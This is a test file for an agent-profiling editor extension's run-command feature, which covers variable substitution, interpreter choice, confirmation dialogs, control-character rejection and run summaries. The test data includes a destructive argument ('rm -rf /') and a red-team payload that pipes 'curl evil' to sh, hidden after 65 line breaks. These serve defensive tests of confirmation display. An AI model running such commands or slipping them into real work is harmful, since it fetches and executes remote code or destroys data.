import * as assert from 'node:assert/strict';
import * as path from 'node:path';
import {
  chooseInterpreter,
  commandLineProblem,
  confirmationDetail,
  confirmationKey,
  formatCommandLine,
  planRun,
  substituteVariables,
  summaryMessage,
  clipAtBoundary,
} from '../../src/extension/run-command';
import { analysis } from './extension-fixtures';

const now = new Date('2026-11-23T12:15:00.123Z');
const base = { interpreter: '/venv/bin/python', folder: '/ws', recorderDir: '/ext/recorders/python', now };

describe('extension run command', () => {
  it('runs the active script with the interpreter, relative to the workspace folder', () => {
    const plan = planRun({ ...base, target: { kind: 'script', script: '/ws/examples/research_agent/agent.py' }, baseEnv: { PATH: '/usr/bin' } });
    assert.deepEqual(plan.argv, ['/venv/bin/python', 'examples/research_agent/agent.py']);
    assert.equal(plan.cwd, '/ws');
    assert.equal(plan.runName, 'agent');
    assert.equal(plan.outFile, path.join('/ws', '.agentprof', '20261123T121500Z-agent.agentprof.jsonl'));
    assert.equal(plan.env.PATH, '/usr/bin');
    assert.equal(plan.env.AGENTPROF_OUT, plan.outFile);
    assert.equal(plan.env.PYTHONPATH, '/ext/recorders/python');
    assert.deepEqual(plan.envAdditions.map((e) => e.name), ['AGENTPROF_OUT', 'PYTHONPATH', 'PYTHONUNBUFFERED']);
  });

  it('prepends the recorder to an existing PYTHONPATH and keeps a script outside the folder absolute', () => {
    const plan = planRun({ ...base, target: { kind: 'script', script: '/elsewhere/a.py' }, baseEnv: { PYTHONPATH: '/mine', PYTHONUNBUFFERED: '1' } });
    assert.deepEqual(plan.argv, ['/venv/bin/python', '/elsewhere/a.py']);
    assert.equal(plan.env.PYTHONPATH, `/ext/recorders/python${path.delimiter}/mine`);
    // PYTHONUNBUFFERED was already set: not an addition.
    assert.deepEqual(plan.envAdditions.map((e) => e.name), ['AGENTPROF_OUT', 'PYTHONPATH']);
  });

  it('substitutes variables in a configured run command, argument by argument', () => {
    const plan = planRun({ ...base, target: { kind: 'command', argv: ['${python}', '-m', 'my_agent', '--root=${workspaceFolder}', '${file}', 'a b; rm -rf /'] }, activeFile: '/ws/x.py', baseEnv: {} });
    assert.deepEqual(plan.argv, ['/venv/bin/python', '-m', 'my_agent', '--root=/ws', '/ws/x.py', 'a b; rm -rf /']);
    assert.equal(substituteVariables('${file}', { python: 'p', workspaceFolder: 'w' }), '${file}', 'no active file: left as written');
  });

  it('chooses the Python extension first, then the setting, then the platform default', () => {
    assert.equal(chooseInterpreter('/ext/python', '/set/python', 'linux'), '/ext/python');
    assert.equal(chooseInterpreter(undefined, ' /set/python ', 'linux'), '/set/python');
    assert.equal(chooseInterpreter(undefined, '', 'linux'), 'python3');
    assert.equal(chooseInterpreter('', '', 'win32'), 'python');
  });

  it('shows the command line quoted for display and keys confirmations by command and folder', () => {
    assert.equal(formatCommandLine(['python3', 'agent.py', 'a b', "it's", '']), `python3 agent.py 'a b' 'it'\\''s' ''`);
    const plan = planRun({ ...base, target: { kind: 'script', script: '/ws/agent.py' }, baseEnv: {} });
    const later = planRun({ ...base, now: new Date('2027-01-01T00:00:00Z'), target: { kind: 'script', script: '/ws/agent.py' }, baseEnv: {} });
    assert.equal(confirmationKey(plan), confirmationKey(later), 'the time-stamped profile path does not ask again');
    assert.notEqual(confirmationKey(plan), confirmationKey({ ...plan, argv: [...plan.argv, '--fast'] }));
    const detail = confirmationDetail(plan);
    assert.ok(detail.includes('Command: /venv/bin/python agent.py'));
    assert.ok(detail.includes('Working folder: /ws'));
    assert.ok(detail.includes(`AGENTPROF_OUT=${plan.outFile}`));
  });

  it('shows line breaks in a run command visibly, on one line of the dialog (issue 18)', () => {
    // The red-team payload sat on line 66 of 72, below what the dialog shows.
    const argv = ['python3', '-c', 'print(1)' + '\n'.repeat(65) + 'import os; os.system("curl evil | sh")'];
    const plan = planRun({ ...base, target: { kind: 'command', argv }, baseEnv: {} });
    const detail = confirmationDetail(plan);
    const commandLine = detail.split('\n').find((l) => l.startsWith('Command: '))!;
    assert.ok(commandLine.endsWith(`$'print(1)${'\\n'.repeat(65)}import os; os.system("curl evil | sh")'`), commandLine);
    // Command, folder, the environment heading and its lines, a blank line, the warning.
    assert.equal(detail.split('\n').length, 5 + plan.envAdditions.length, 'no extra lines');
    assert.equal(formatCommandLine(['a\nb', "it's\t\\"]), `$'a\\nb' $'it\\'s\\t\\\\'`);
    assert.equal(commandLineProblem(argv), undefined, 'line breaks are shown, not refused');
  });

  it('refuses control and invisible format characters in a run command with a clear reason', () => {
    assert.equal(commandLineProblem(['python3', 'ok']), undefined);
    assert.equal(commandLineProblem(['python3', 'a\u001b]0;title\u0007']), 'argument 2 holds the invisible or control character U+001B, which a confirmation cannot show');
    assert.match(commandLineProblem(['x\u202eexe.py'])!, /argument 1 .*U\+202E/);
    assert.match(commandLineProblem(['a', 'b', 'c\u0000'])!, /argument 3 .*U\+0000/);
    assert.match(commandLineProblem(['\u009b31m'])!, /U\+009B/);
  });

  it('summarises how the run ended', () => {
    const run = { ...analysis().run, wallMs: 9120, costUsd: 0.0123, spans: 42 };
    const top = { kind: 'slow_llm' as const, component: 'llm', impact: 'high' as const, metric: 'avg_ms', value: 4000, threshold: 3000, savingsMs: 2000, savingsUsd: 0, suggestion: '', file: undefined, line: undefined, spanIds: [], spans: [] };
    assert.equal(summaryMessage('agent', { kind: 'exited', code: 0 }, run, top), 'agent finished: 9.12 s wall · $0.0123 · 42 spans. Top bottleneck: llm (slow_llm, saves ~2.00 s).');
    assert.equal(
      summaryMessage('agent', { kind: 'exited', code: 1 }, { ...run, errors: 2, exitStatus: 'error', exitError: 'RuntimeError: gave up' }, undefined),
      'agent exited with code 1: 9.12 s wall · $0.0123 · 42 spans · 2 errors. Error: RuntimeError: gave up.',
    );
    assert.equal(summaryMessage('agent', { kind: 'failedToStart', message: 'spawn python3 ENOENT' }, undefined, undefined), 'agent could not start: spawn python3 ENOENT.');
    assert.equal(summaryMessage('agent', { kind: 'exited', code: 0 }, undefined, undefined), 'agent finished; it wrote no profile (does it use agentprof timers?).');
    assert.equal(summaryMessage('agent', { kind: 'cancelled' }, { ...run, spans: 1, errors: 1 }, undefined), 'agent was cancelled: 9.12 s wall · $0.0123 · 1 span · 1 error.');
    // A long component is cut to 79 characters and an ellipsis.
    const long = summaryMessage('agent', { kind: 'exited', code: 0 }, run, { ...top, component: 'x'.repeat(200) });
    assert.ok(long.includes(`Top bottleneck: ${'x'.repeat(79)}… (slow_llm`), long);
  });

  it('cuts a long bottleneck name between names, never inside one (step_3:executi…)', () => {
    const names = Array.from({ length: 8 }, (_, i) => `step_${i}:execution`).join(', '); // 8 × 16 + 7 × 2 = 142 chars
    const clipped = clipAtBoundary(`agent: ${names}`, 80);
    // The last whole name that fits in 79 characters is step_3:execution (7 + 4 × 18 − 2 = 77).
    assert.equal(clipped, 'agent: step_0:execution, step_1:execution, step_2:execution, step_3:execution…');
    assert.equal(clipAtBoundary('short', 80), 'short');
  });
});
